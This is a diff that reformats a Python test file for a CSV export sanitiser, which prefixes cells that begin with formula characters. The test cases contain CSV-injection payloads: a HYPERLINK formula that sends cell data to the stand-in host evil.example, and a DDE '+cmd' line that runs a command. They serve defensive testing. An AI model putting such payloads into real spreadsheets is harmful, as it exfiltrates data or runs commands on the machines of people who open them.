@@ -27,19 +27,24 @@ def written(values: list[object]) -> list[str]:
     return row
 
 
-@pytest.mark.parametrize(("cell", "expected"), [
-    ('=HYPERLINK("http://evil.example/?x="&A1,"click")',
-     '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
-    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
-    ("-2+3", "'-2+3"),
-    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
-    ("\t=1+1", "'\t=1+1"),
-    ("\r=1+1", "'\r=1+1"),
-    ("\n=1+1", "'\n=1+1"),
-    ("llama-sft", "llama-sft"),  # a '-' inside is harmless
-    ("'quoted", "'quoted"),
-    ("", ""),
-])
+@pytest.mark.parametrize(
+    ("cell", "expected"),
+    [
+        (
+            '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+            '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        ),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("\n=1+1", "'\n=1+1"),
+        ("llama-sft", "llama-sft"),  # a '-' inside is harmless
+        ("'quoted", "'quoted"),
+        ("", ""),
+    ],
+)
 def test_formula_cells_are_prefixed(cell: str, expected: str) -> None:
     assert safe_cell(cell) == expected
     assert written([cell]) == [expected]
@@ -75,10 +80,21 @@ def test_numbers_round_trip(number: float) -> None:
 def test_the_weeks_csv_neutralizes_every_user_string() -> None:
     """Run names, teams, users, verdicts and advice a spreadsheet would run; the figures are
     still numbers (2 h at $3.85: spend 7.7)."""
-    evil = {"name": '=HYPERLINK("http://evil.example","x")', "team": "@team",
-            "project": "+proj", "user": "-2+3", "verdict": "\t=cmd", "advice": "\r=1"}
-    k = kpis.week_kpis(kpis.runs_frame([run_record("=run-id", W48, 2, util=20.0, **evil)]),
-                       kpis.samples_frame([]), W48, tz=UTC, now=W48 + timedelta(days=8))
+    evil = {
+        "name": '=HYPERLINK("http://evil.example","x")',
+        "team": "@team",
+        "project": "+proj",
+        "user": "-2+3",
+        "verdict": "\t=cmd",
+        "advice": "\r=1",
+    }
+    k = kpis.week_kpis(
+        kpis.runs_frame([run_record("=run-id", W48, 2, util=20.0, **evil)]),
+        kpis.samples_frame([]),
+        W48,
+        tz=UTC,
+        now=W48 + timedelta(days=8),
+    )
     rows = list(csv.reader(io.StringIO(to_csv(k, UTC), newline="")))
     cells = [c for row in rows[1:] for c in row]
     assert not [c for c in cells if c.startswith(FORMULA_START)]
